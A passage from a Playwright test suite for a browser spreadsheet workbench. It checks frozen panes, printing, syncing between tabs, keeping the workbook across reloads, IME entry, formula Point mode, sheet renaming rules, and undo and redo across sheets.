    await page.context().close();
  });

  it("the file's frozen panes stay put, row numbers stay over the cells scrolled right, and printing prints the sheet alone", async () => {
    const { page, errors } = await openWorkbench(browser);
    // The Growth sheet freezes its heading rows and column A (the template's panes): scrolled down and right, they stay.
    await page.$eval("#grid", (grid) => {
      grid.scrollTop = 300;
      grid.scrollLeft = 500;
    });
    await page.waitForTimeout(100);
    const at = (a1: string) => page.$eval(`td[data-cell="${a1}"]`, (td) => {
      const box = td.getBoundingClientRect();
      const hit = document.elementFromPoint(box.left + 4, box.top + box.height / 2);
      return { hit: hit === td || td.contains(hit), top: Math.round(box.top), left: Math.round(box.left) };
    });
    const letters = await page.$eval(".grid thead th.corner", (corner) => Math.round(corner.getBoundingClientRect().bottom));
    // Rows 1–8 above it: row 7 as tall as the file sets it (45 points, 60 px), the others one line.
    expect(await at("A9")).toMatchObject({ hit: true, top: letters + 7 * 22 + 60 });
    expect(await at("A30")).toMatchObject({ hit: true });
    // A row number (row 30's) is drawn over the cells that scroll under it, never under them.
    const number = await page.$eval('.grid tbody tr[aria-rowindex="31"] th.row', (th) => {
      const box = th.getBoundingClientRect();
      return document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2) === th;
    });
    expect(number).toBe(true);
    await page.screenshot({ path: path.join(OUTPUT, "workbench-frozen-scrolled.png") });
    // Printing: the sheet's used range whole, without the toolbar, the formula bar, the tabs or the pane.
    await page.emulateMedia({ media: "print" });
    await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
    const shown = (selector: string) => page.$eval(selector, (element) => getComputedStyle(element).display !== "none");
    for (const hidden of [".toolbar", ".formula-bar", "#tabs", "#root"]) expect(await shown(hidden)).toBe(false);
    expect(await page.locator(".grid tr.spacer").count()).toBe(0);
    expect(await cell(page, "B22")).toBe("5,400,000.00");
    await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
    await page.emulateMedia({ media: "screen" });
    expect(await shown(".toolbar")).toBe(true);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("two tabs of the workbench — a tab behind the other never keeps its older copy over the other's edits", async () => {
    const { page: first, errors } = await openWorkbench(browser);
    const typeIn = async (page: Page, a1: string, value: string) => {
      await page.click(`td[data-cell="${a1}"]`);
      await page.keyboard.type(value);
      await page.keyboard.press("Enter");
      await page.waitForSelector("body[data-kept=true]");
    };
    await typeIn(first, "B11", "555000");
    // The second tab opens what the first kept.
    const second = await first.context().newPage();
    await second.goto(`${origin}workbench.html?lang=en`);
    await second.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await cell(second, "B11")).toBe("555,000.00");
    // The first tab edits again; the second, behind it now, only moves its selection.
    await typeIn(first, "B11", "777000");
    await second.click('td[data-cell="D5"]');
    await second.waitForSelector("body[data-kept=true]");
    expect(await second.textContent("#message")).toBe("This workbook changed in another tab of this browser: this tab no longer keeps its changes here (Download keeps them; a reload shows the other tab's).");
    // A reload finds the first tab's edit.
    await first.reload();
    await first.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await cell(first, "B11")).toBe("777,000.00");
    expect(errors).toEqual([]);
    await first.context().close();
  });

  it("a change not yet kept makes the browser ask before the page is left", async () => {
    const { page } = await openWorkbench(browser);
    await page.click('td[data-cell="B12"]');
    await page.keyboard.type("401000");
    await page.keyboard.press("Enter");
    // At once: the copy is not kept yet, so leaving asks (the browser's own question).
    const kind = page.waitForEvent("dialog").then(async (dialog) => {
      const type = dialog.type();
      await dialog.dismiss();
      return type;
    });
    await page.evaluate(() => document.body.dataset.kept);
    void page.reload().catch(() => undefined);
    expect(await kind).toBe("beforeunload");
    await page.waitForSelector("body[data-kept=true]");
    expect(await cell(page, "B12")).toBe("401,000.00");
    await page.context().close();
  });

  it("the open workbook and the pane's answers survive a reload; Start over asks, then brings back the template", async () => {
    const { page, outside, errors } = await openWorkbench(browser);
    await page.click('td[data-cell="B10"]');
    await page.keyboard.type("500000");
    await page.keyboard.press("Enter");
    expect(await cell(page, "C10")).toBe("250,000.00");
    // Looks pasted onto the file's own sheet: B10's blue input fill to K10, A9's bold grey header to K12.
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin });
    const lookOf = (a1: string) => page.$eval(`td[data-cell="${a1}"]`, (td) => ({ fill: getComputedStyle(td).backgroundColor, weight: getComputedStyle(td).fontWeight }));
    await page.click('td[data-cell="D12"]'); // B10 and A9 unselected, so their own looks show
    const [blue, header, plain] = [await lookOf("B10"), await lookOf("A9"), await lookOf("K10")];
    expect([blue.fill === plain.fill, header.fill === plain.fill, Number(header.weight) >= 600, Number(plain.weight) >= 600]).toEqual([false, false, true, false]);
    for (const [from, to] of [["B10", "K10"], ["A9", "K12"]]) {
      await page.click(`td[data-cell="${from}"]`);
      await page.keyboard.press("Control+c");
      await page.click(`td[data-cell="${to}"]`);
      await page.keyboard.press("Control+v");
      await page.waitForFunction(([a, b]) => document.querySelector(`td[data-cell="${b}"]`)?.textContent === document.querySelector(`td[data-cell="${a}"]`)?.textContent, [from, to]);
    }
    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
    await page.check('[data-minefield="5"] input[value="clear"]');
    await page.fill('[data-minefield="5"] textarea', "Kept over a reload 刷新后仍在");
    await page.click('td[data-cell="D12"]');
    // The pane saves 300 ms after the last change and the page keeps the workbook soon after: wait
    // until the kept copy holds the note (on a busy machine the pane's save may come late).
    await page.waitForFunction(
      () =>
        new Promise<boolean>((resolve) => {
          const open = indexedDB.open("spillsplit-workbench", 1);
          open.onerror = () => resolve(false);
          open.onsuccess = () => {
            const db = open.result;
            const read = db.transaction("workbook").objectStore("workbook").get("open");
            read.onsuccess = () => {
              db.close();
              resolve(JSON.stringify(read.result?.settings ?? null).includes("Kept over a reload"));
            };
            read.onerror = () => {
              db.close();
              resolve(false);
            };
          };
        }),
      undefined,
      { timeout: 30_000 },
    );
    await page.waitForSelector("body[data-kept=true]");

    // Reloaded: the same workbook, edit, answer and selection, from this browser (no request leaves the machine).
    await page.reload();
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await page.textContent("#file-name")).toBe("spillsplit-planner.xlsx");
    expect(await page.textContent("#message")).toBe("Reopened spillsplit-planner.xlsx as you left it (this browser keeps the open workbook; Start over opens the template).");
    expect(await cell(page, "B10")).toBe("500,000.00");
    expect(await cell(page, "C10")).toBe("250,000.00");
    expect(await page.textContent('[role="tab"][aria-selected="true"]')).toBe("Growth");
    expect(await page.inputValue("#address")).toBe("D12");
    // The pasted looks too, as the page showed them before the reload.
    expect({ K10: await lookOf("K10"), K12: await lookOf("K12") }).toEqual({ K10: blue, K12: header });
    await page.waitForSelector('[data-minefield="5"] [data-status="clear"]');
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("Kept over a reload 刷新后仍在");
    // Kept as a Download writes it: downloading after the reload gives the edit.
    const { workbook } = await downloadAs(page, "workbench-kept-download.xlsx");
    expect(workbook.getWorksheet("Growth")!.getCell("B10").value).toBe(500_000);
    const written = (a1: string) => {
      const at = workbook.getWorksheet("Growth")!.getCell(a1);
      return { fill: (at.fill as { fgColor?: { argb?: string } } | undefined)?.fgColor?.argb, bold: at.font?.bold ?? false };
    };
    expect({ K10: written("K10"), K12: written("K12") }).toEqual({ K10: written("B10"), K12: written("A9") });
    expect([written("K10").fill, written("K12").bold]).toEqual([expect.stringMatching(/^FF[0-9A-F]{6}$/), true]);
    await page.waitForSelector("body[data-kept=true]");

    // In Chinese too.
    await page.goto(`${origin}workbench.html?lang=zh`);
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await page.textContent("#start-over")).toBe("重新开始");
    expect(await page.textContent("#message")).toContain("已按上次离开时的样子重新打开 spillsplit-planner.xlsx");
    expect(await cell(page, "B10")).toBe("500,000.00");
    await page.goto(`${origin}workbench.html?lang=en`);
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await page.textContent("#start-over")).toBe("Start over");

    // Start over asks first, as the answers would be lost; no keeps everything.
    let asked = "";
    page.once("dialog", (dialog) => {
      asked = dialog.message();
      void dialog.dismiss();
    });
    await page.click("#start-over");
    await page.waitForTimeout(300);
    expect(asked).toBe("Start over with the template? Your changes to spillsplit-planner.xlsx (edits and the pane's answers) are lost; Download keeps the edits.");
    expect(await cell(page, "B10")).toBe("500,000.00");
    // Yes: the template again, with no answers, and so after another reload.
    page.once("dialog", (dialog) => void dialog.accept());
    await page.click("#start-over");
    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Started over: the template is open, and the workbook this browser kept is gone.");
    expect(await cell(page, "B10")).toBe("300,000.00");
    await page.waitForSelector('[data-minefield="5"] [data-status="unanswered"]');
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("");
    await page.waitForSelector("body[data-kept=true]");
    await page.reload();
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await cell(page, "B10")).toBe("300,000.00");
    await page.waitForSelector('[data-minefield="5"] [data-status="unanswered"]');
    // An answer given just before Start over stays with the workbook it was given in, whether the pane
    // saved it before the template came back or saves it as it closes (the page asks when it was saved first).
    page.once("dialog", (dialog) => void dialog.accept());
    await page.check('[data-minefield="5"] input[value="watch"]');
    await page.click("#start-over");
    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.startsWith("Started over"));
    await page.waitForSelector('[data-minefield="5"] [data-status]');
    expect(await status(page, 5)).toBe("unanswered");
    await page.waitForSelector("body[data-kept=true]");
    await page.reload();
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    // The step being checked is a view, not work: changed alone, Start over does not ask.
    await page.selectOption("#month", "3");
    await page.waitForTimeout(400); // the pane saves 300 ms after the last change
    await page.waitForSelector("body[data-kept=true]");
    let askedForStep = "";
    const onStepDialog = (dialog: { message(): string; dismiss(): Promise<void> }) => {
      askedForStep = dialog.message();
      void dialog.dismiss();
    };
    page.on("dialog", onStepDialog);
    await page.click("#start-over");
    await page.waitForTimeout(500);
    page.off("dialog", onStepDialog);
    expect(askedForStep).toBe("");
    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.startsWith("Started over"));
    expect(errors).toEqual([]);
    expect(outside).toEqual([]);
    await page.context().close();
  });

  it("a Chinese input method's composition on a selected cell starts the entry there and enters the composed text", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('td[data-cell="K40"]');
    expect(await cell(page, "K40")).toBe("");
    // As an IME sends it: a keydown of "Process" (key code 229), then a composition, then its commit.
    const cdp = await page.context().newCDPSession(page);
    await cdp.send("Input.dispatchKeyEvent", { type: "rawKeyDown", key: "Process", code: "KeyN", windowsVirtualKeyCode: 229, nativeVirtualKeyCode: 229 });
    await cdp.send("Input.imeSetComposition", { text: "ni", selectionStart: 2, selectionEnd: 2 });
    await cdp.send("Input.dispatchKeyEvent", { type: "keyUp", key: "Process", code: "KeyN", windowsVirtualKeyCode: 229, nativeVirtualKeyCode: 229 });
    await cdp.send("Input.imeSetComposition", { text: "nihao", selectionStart: 5, selectionEnd: 5 });
    await page.keyboard.insertText("你好，备注");
    await page.keyboard.press("Enter");
    expect(await cell(page, "K40")).toBe("你好，备注");
    expect(await page.inputValue("#address")).toBe("K41");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("an entry beginning with = that is not a formula is refused with why and stays open; after an apostrophe it is text, shown and downloaded as such", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('td[data-cell="K40"]');
    await page.keyboard.type("=== note");
    await page.keyboard.press("Enter");
    expect(await page.textContent("#message")).toContain("type an apostrophe (') first");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    expect(await page.inputValue("#formula")).toBe("=== note");
    expect(await page.inputValue("#address")).toBe("K40");
    expect(await cell(page, "K40")).toBe("");
    // A click on another cell does not take the entry away either.
    await page.click('td[data-cell="L39"]');
    expect(await page.inputValue("#address")).toBe("K40");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    expect(await page.inputValue("#formula")).toBe("=== note");
    await page.keyboard.press("Home");
    await page.keyboard.type("'");
    await page.keyboard.press("Enter");
    expect(await cell(page, "K40")).toBe("=== note");
    expect(await page.locator('td[data-cell="K40"].error, td[data-cell="K40"].formula').count()).toBe(0);
    expect(await page.textContent("#message")).toBe("");
    await page.click('td[data-cell="K40"]');
    expect(await page.inputValue("#formula")).toBe("'=== note");
    const { workbook } = await downloadAs(page, "equals-note.xlsx");
    const saved = workbook.getWorksheet("Growth")!.getCell("K40");
    expect(saved.type).toBe(ExcelJS.ValueType.String);
    expect(saved.value).toBe("=== note");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a press on a cell selects it, as Excel's does: typed into one cell, a click held as a hand holds it on another enters the entry and selects that cell", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('[role="tab"]:has-text("Notes")');
    await page.click('td[data-cell="F30"]');
    await page.keyboard.type("checked");
    // The entry redraws the sheet as the focus leaves the formula bar: a hand's release comes after that redraw.
    const box = (await page.locator('td[data-cell="G31"]').boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.mouse.down();
    await page.waitForTimeout(150);
    await page.mouse.up();
    expect(await page.inputValue("#address")).toBe("G31");
    expect(await cell(page, "F30")).toBe("checked");
    // Typed at once after each press, as a fast hand types down a column: no key and no entry is lost.
    await page.keyboard.type("start");
    for (let r = 32; r <= 39; r++) {
      const at = (await page.locator(`td[data-cell="G${r}"]`).boundingBox())!;
      await page.mouse.click(at.x + at.width / 2, at.y + at.height / 2);
      await page.keyboard.type(`n${r}`);
    }
    await page.keyboard.press("Enter");
    const typed = await Promise.all(Array.from({ length: 9 }, (_, i) => cell(page, `G${31 + i}`)));
    expect(typed).toEqual(["start", ...Array.from({ length: 8 }, (_, i) => `n${32 + i}`)]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a click or a drag on cells while a formula is typed puts their reference where a reference can go (Excel's Point mode); elsewhere a click enters the formula", async () => {
    const { page, errors } = await openWorkbench(browser);
    const centre = async (a1: string) => {
      const box = (await page.locator(`td[data-cell="${a1}"]`).boundingBox())!;
      return [box.x + box.width / 2, box.y + box.height / 2] as const;
    };
    const budgets = await Promise.all(["B10", "B11", "B12"].map((a1) => shownNumber(page, a1)));
    expect(budgets.every((b) => Number.isFinite(b) && b > 0)).toBe(true);
    // =SUM( then a drag from B10 to B12: =SUM(B10:B12; ) and Enter give the three budgets' sum.
    // Two empty cells on screen below the budgets (the grid does not scroll between them and B10:B12).
    const [sum, twice] = await page.evaluate(() =>
      Array.from(document.querySelectorAll<HTMLElement>("#grid td[data-cell]"))
        .filter((td) => td.textContent === "" && /^[B-E](2[2-9]|3[0-5])$/.test(td.dataset.cell ?? ""))
        .map((td) => td.dataset.cell!)
        .slice(0, 2),
    );
    await page.click(`td[data-cell="${sum}"]`);
    await page.keyboard.type("=SUM(");
    await page.mouse.move(...(await centre("B10")));
    await page.mouse.down();
    await page.mouse.move(...(await centre("B11")), { steps: 4 });
    await page.mouse.move(...(await centre("B12")), { steps: 4 });
    await page.mouse.up();
    expect(await page.inputValue("#formula")).toBe("=SUM(B10:B12");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    expect(await page.inputValue("#address")).toBe(sum); // the selection stays on the cell being entered
    await page.keyboard.type(")");
    await page.keyboard.press("Enter");
    expect(await shownNumber(page, sum)).toBeCloseTo(budgets[0] + budgets[1] + budgets[2], 2);
    // = then a click on B10, then another on B11, replaces the reference; after *2 a click enters the formula and selects.
    await page.click(`td[data-cell="${twice}"]`);
    await page.keyboard.type("=");
    await page.click('td[data-cell="B10"]');
    expect(await page.inputValue("#formula")).toBe("=B10");
    await page.click('td[data-cell="B11"]');
    expect(await page.inputValue("#formula")).toBe("=B11");
    await page.keyboard.type("*2");
    await page.click('td[data-cell="C10"]');
    expect(await page.inputValue("#address")).toBe("C10");
    expect(await shownNumber(page, twice)).toBeCloseTo(2 * budgets[1], 2);
    // After an operator typed in the middle of an edited formula, a click points there too.
    await page.click(`td[data-cell="${twice}"]`);
    await page.keyboard.press("F2");
    await page.keyboard.type("+");
    await page.click('td[data-cell="B12"]');
    await page.keyboard.press("Enter");
    expect(await shownNumber(page, twice)).toBeCloseTo(2 * budgets[1] + budgets[2], 2);
    await page.click(`td[data-cell="${twice}"]`);
    expect(await page.inputValue("#formula")).toBe("=B11*2+B12");
    // A reference typed by hand where an earlier entry's click put one is the planner's, not a pointed one:
    // = and a click on B10 entered, then =B10 typed over the next cell and a click on C12 enters =B10 and selects C12.
    await page.click(`td[data-cell="${sum}"]`);
    await page.keyboard.type("=");
    await page.click('td[data-cell="B10"]');
    await page.keyboard.press("Enter");
    await page.click(`td[data-cell="${twice}"]`);
    await page.keyboard.type("=B10");
    await page.click('td[data-cell="C12"]');
    expect(await page.inputValue("#address")).toBe("C12");
    expect(await shownNumber(page, twice)).toBeCloseTo(budgets[0], 2);
    await page.click(`td[data-cell="${twice}"]`);
    expect(await page.inputValue("#formula")).toBe("=B10");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a sheet name Excel refuses is refused saying why, and the rename stays open on what was typed", async () => {
    const { page, errors } = await openWorkbench(browser);
    const asked: { message: string; typed: string }[] = [];
    const answers = ["summary", "Q1/Q2", "x".repeat(32), "'quoted'", "  ", "Plan B"];
    page.on("dialog", (dialog) => {
      asked.push({ message: dialog.message(), typed: dialog.defaultValue() });
      void dialog.accept(answers.shift());
    });
    await page.dblclick('[role="tab"]:text-is("Growth")');
    await page.waitForSelector('[role="tab"]:text-is("Plan B")');
    expect(asked.map((a) => a.typed)).toEqual(["Growth", "summary", "Q1/Q2", "x".repeat(32), "'quoted'", "  "]);
    expect(asked[1].message).toContain("another sheet has that name");
    expect(asked[2].message).toContain("\\ / ? * [ ] :");
    expect(asked[3].message).toContain("at most 31");
    expect(asked[4].message).toContain("begin or end with an apostrophe");
    expect(asked[5].message).toContain("needs a name");
    expect(await page.textContent("#root #sheet")).toBe("Plan B");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("undo and redo of an edit made on another sheet go to that sheet and select the cells", async () => {
    const { page, errors } = await openWorkbench(browser);
    const sheetShown = () => page.textContent('[role="tab"][aria-selected="true"]');
    await page.click('td[data-cell="B10"]');
    const before = await cell(page, "B10");
    await page.keyboard.type("123456");
    await page.keyboard.press("Enter");
    await page.click('[role="tab"]:text-is("Assumptions")');
    await page.click('td[data-cell="C3"]');
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Growth");
    expect(await page.inputValue("#address")).toBe("B10");
    expect(await cell(page, "B10")).toBe(before);
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    await page.click('[role="tab"]:text-is("Assumptions")');
    await page.click('td[data-cell="C3"]');
    await page.keyboard.press("Control+y");
    expect(await sheetShown()).toBe("Growth");
    expect(await page.inputValue("#address")).toBe("B10");
    expect(await cell(page, "B10")).toBe("123,456.00");
    // A range cleared on another sheet: undo selects the range.
    await page.click('[role="tab"]:text-is("Mature")');
    await page.click('td[data-cell="B10"]');
    await page.keyboard.press("Shift+ArrowDown");
    await page.keyboard.press("Delete");
    await page.click('[role="tab"]:text-is("Cold start")');
    await page.click('td[data-cell="C3"]');
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Mature");
    expect(await page.inputValue("#address")).toBe("B10:B11");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("each report the pane writes is one step of the grid's undo: Ctrl+Z takes back exactly it and leaves 25% in J30, Ctrl+Y writes it again, the next Ctrl+Z takes J30 with its format", async () => {
    const { page, errors } = await openWorkbench(browser);
    const sheetShown = () => page.textContent('[role="tab"][aria-selected="true"]');
    const report = '[role="tab"]:text-is("Minefields - Growth")';
    await page.waitForSelector('[data-minefield="1"] textarea');
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    const where = await page.inputValue("#address");
    await page.fill('[data-minefield="1"] textarea', "first report");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    // 25% typed in J30, then the report written again over its own sheet.
    await page.click('[role="tab"]:text-is("Growth")');
    await page.fill("#address", "J30");
    await page.press("#address", "Enter");
    await page.keyboard.type("25%");
    await page.keyboard.press("Enter");
    expect(await cell(page, "J30")).toBe("25%");
    await page.fill('[data-minefield="1"] textarea', "second report");
    await page.click("#write-report");
    await page.click(report);
    await page.waitForFunction(() => document.querySelector('td[data-cell="D2"]')?.textContent === "second report");
    // Ctrl+Z on another sheet: the report's first contents come back, on its sheet, its cells selected.
    await page.click('[role="tab"]:text-is("Growth")');
    await page.click('td[data-cell="B4"]');
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Minefields - Growth");
    expect(await page.inputValue("#address")).toMatch(/^A1:[A-Z]+\d+$/);
    expect(await cell(page, "D2")).toBe("first report");
    expect(await cell(page, "A1")).toBe("Minefield");
    await page.keyboard.press("Control+y");
    expect(await cell(page, "D2")).toBe("second report");
    await page.keyboard.press("Control+z");
    expect(await cell(page, "D2")).toBe("first report");
    // The next Ctrl+Z is the entry in J30: its value and its format go together.
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Growth");
    expect(await page.inputValue("#address")).toBe("J30");
    expect(await cell(page, "J30")).toBe("");
    await page.keyboard.press("Control+y");
    expect(await cell(page, "J30")).toBe("25%");
    await page.keyboard.press("Control+z");
    // Then the first report: the sheet it added goes away, and the grid goes back to where the user was.
    await page.keyboard.press("Control+z");
    expect(await page.locator(report).count()).toBe(0);
    expect(await sheetShown()).toBe("Growth");
    expect(await page.inputValue("#address")).toBe(where);
    await page.keyboard.press("Control+y");
    expect(await sheetShown()).toBe("Minefields - Growth");
    expect(await cell(page, "D2")).toBe("first report");
    await page.keyboard.press("Control+z");
    expect(await page.locator(report).count()).toBe(0);
    // Writing the report again makes its sheet afresh.
    await page.click("#write-report");
    await page.waitForSelector(report);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a sheet renamed from its tab is one step of undo with the Summary row the pane writes after it: Ctrl+Z names it back, Summary and all, Ctrl+Y renames both again, and the edit before is reached", async () => {
    const { page, errors } = await openWorkbench(browser);
    const sheetShown = () => page.textContent('[role="tab"][aria-selected="true"]');
    const tab = (name: string) => page.locator(`[role="tab"]:text-is("${name}")`);
    const onSummary = async (name: string) => {
      await page.click('[role="tab"]:text-is("Summary")');
      await page.click('td[data-cell="H2"]');
      return page.locator(`td:text-is("${name}")`).count();
    };
    await page.waitForSelector('[data-minefield="1"] textarea');
    await page.click('[role="tab"]:text-is("Growth")');
    await page.fill("#address", "J30");
    await page.press("#address", "Enter");
    await page.keyboard.type("25%");
    await page.keyboard.press("Enter");
    page.once("dialog", (dialog) => void dialog.accept("Plan A"));
    await page.dblclick('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan A");
    // The pane's refresh lists the new name in the Summary.
    await page.click('[role="tab"]:text-is("Summary")');
    await page.waitForSelector('td:text-is("Plan A")');
    expect(await onSummary("Growth")).toBe(0);
    // One Ctrl+Z: the name and the Summary's row go back together, on the sheet renamed.
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Growth");
    expect(await tab("Plan A").count()).toBe(0);
    await page.waitForTimeout(300); // the pane's refresh after the undo writes nothing
    expect(await onSummary("Growth")).toBe(1);
    expect(await page.locator('td:text-is("Plan A")').count()).toBe(0);
    // Redo is not lost: Ctrl+Y renames it again, its Summary row with it.
    await page.keyboard.press("Control+y");
    expect(await sheetShown()).toBe("Plan A");
    expect(await onSummary("Plan A")).toBe(1);
    // Ctrl+Z twice: the rename, then the entry in J30 before it.
    await page.keyboard.press("Control+z");
    await page.keyboard.press("Control+z");
    expect(await sheetShown()).toBe("Growth");
    expect(await page.inputValue("#address")).toBe("J30");
    expect(await cell(page, "J30")).toBe("");
    await page.waitForTimeout(300);
    expect(await onSummary("Growth")).toBe(1);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a sheet renamed 2026 keeps its place after a reload, and its references read '2026'! in the download and the formula bar, as Excel and LibreOffice read them; one renamed 成熟期 is read bare, as Excel writes it, and a number typed with a capital E computes", async () => {
    const { page, errors } = await openWorkbench(browser);
    const tabs = () => page.locator('[role="tab"]').allTextContents();
    await page.waitForSelector('[data-minefield="1"] textarea');
    const before = await tabs();
    page.once("dialog", (dialog) => void dialog.accept("2026"));
    await page.dblclick('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "2026");
    await page.click('[role="tab"]:text-is("Summary")');
    await page.waitForSelector('td:text-is("2026")');
    const { workbook } = await downloadAs(page, "workbench-2026.xlsx");
    const naming: { sheet: string; address: string; formula: string }[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => void (/2026'?!/.test(c.formula ?? "") && naming.push({ sheet: sheet.name, address: c.address, formula: c.formula })))));
    expect(naming.length).toBeGreaterThan(0);
    expect(naming.filter((f) => /(^|[^'])2026!/.test(f.formula))).toEqual([]);
    const reading = naming.find((f) => f.sheet !== "2026") ?? naming[0];
    await page.click(`[role="tab"]:text-is("${reading.sheet}")`);
    await page.fill("#address", reading.address);
    await page.press("#address", "Enter");
    expect(await page.inputValue("#formula")).toContain("'2026'!");
    expect(await page.inputValue("#formula")).not.toMatch(/(^|[^'])2026!/);
    await page.waitForSelector("body[data-kept=true]");
    await page.reload();
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    expect(await tabs()).toEqual(before.map((name) => (name === "Growth" ? "2026" : name)));
    await page.click('[role="tab"]:text-is("Summary")');
    await page.waitForSelector('td:text-is("2026")');
    expect(await page.locator('td:text-is("#ERROR!")').count()).toBe(0);
    // A sheet named in Chinese is named bare, as Excel writes it (=成熟期!B11): typed so, a formula computes and is no refused entry.
    page.once("dialog", (dialog) => void dialog.accept("成熟期"));
    await page.dblclick('[role="tab"]:text-is("Mature")');
    await page.waitForSelector('[role="tab"]:text-is("成熟期")');
    await page.click('[role="tab"]:text-is("2026")');
    await page.click('td[data-cell="K40"]');
    await page.keyboard.type("=成熟期!B11*2");
    await page.keyboard.press("Enter");
    await page.keyboard.type("=K40/2-成熟期!B11");
    await page.keyboard.press("Enter");
    expect([await cell(page, "K41"), await page.textContent("#message")]).toEqual(["0", ""]);
    expect(await shownNumber(page, "K40")).toBeGreaterThan(0);
    await page.click('td[data-cell="K40"]');
    expect(await page.inputValue("#formula")).toBe("=成熟期!B11*2");
    // A number with a capital E, as Excel writes it, computes and shows its E (the engine alone reads only 1e-300).
    await page.click('td[data-cell="K42"]');
    await page.keyboard.type("=1E-300*2+成熟期!B11*0");
    await page.keyboard.press("Enter");
    expect([await shownNumber(page, "K42"), await page.textContent("#message")]).toEqual([2e-300, ""]);
    await page.click('td[data-cell="K42"]');
    expect(await page.inputValue("#formula")).toBe("=1E-300*2+成熟期!B11*0");
    await page.click('[role="tab"]:text-is("Summary")');
    expect(await page.locator('td:text-is("#ERROR!")').count()).toBe(0);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  /**
   * The workbench opened, a formula on Growth naming the sheet `missing` (not there: the engine holds
   * the next sheet id for it), and Growth's report written. `then` runs before the pane's settings
   * are kept and the page reloaded, which numbers the sheets afresh.
   */
  async function reportThenReload(missing: string, then: (page: Page) => Promise<unknown> = async () => undefined) {
    const opened = await openWorkbench(browser);
    const { page } = opened;
    await page.waitForSelector('[data-minefield="1"] textarea');
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    await page.click('td[data-cell="K40"]');
    await page.keyboard.type(`='${missing}'!A1`);
    await page.keyboard.press("Enter");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    await then(page);
    await page.waitForTimeout(600); // the pane saves 300 ms after the last change
    await page.waitForSelector("body[data-kept=true]");
    await page.reload();
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    return opened;
  }

  /** Writes Growth's report again; the notice names `sheet`. Returns the tabs then. */
  async function reportAgain(page: Page, sheet: string): Promise<string[]> {
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    await page.waitForSelector("#write-report");
    await page.click("#write-report");
    await page.waitForFunction((name) => document.querySelector("#notice")?.textContent?.includes(name), sheet);
    return page.locator('[role="tab"]').allTextContents();
  }

  it("a scenario sheet inserted after a reload is no report, though a formula typed before it was made gave it the report's old id; the report is rewritten in place", async () => {
    // Reloaded, the sheets are numbered afresh: the report's old id is the one Scenario 1 gets.
    const { page, errors } = await reportThenReload("Scenario 1");
    await page.waitForSelector("#insert-scenario");
    await page.click("#insert-scenario");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 1");
    await page.waitForSelector('[data-minefield="1"] textarea');
    expect(await page.locator("#report-sheet").count()).toBe(0);
    const tabs = await reportAgain(page, "Minefields - Growth");
    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth"]);
    await page.click('[role="tab"]:text-is("Minefields - Growth")');
    await page.waitForSelector("#report-sheet");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a report renamed from its tab is rewritten in place after a reload that numbers the sheets afresh", async () => {
    const { page, errors } = await reportThenReload("Later", async (on) => {
      on.once("dialog", (dialog) => void dialog.accept("Checked"));
      await on.dblclick('[role="tab"]:text-is("Minefields - Growth")');
      await on.waitForSelector('[role="tab"]:text-is("Checked")');
    });
    const tabs = await reportAgain(page, "Checked");
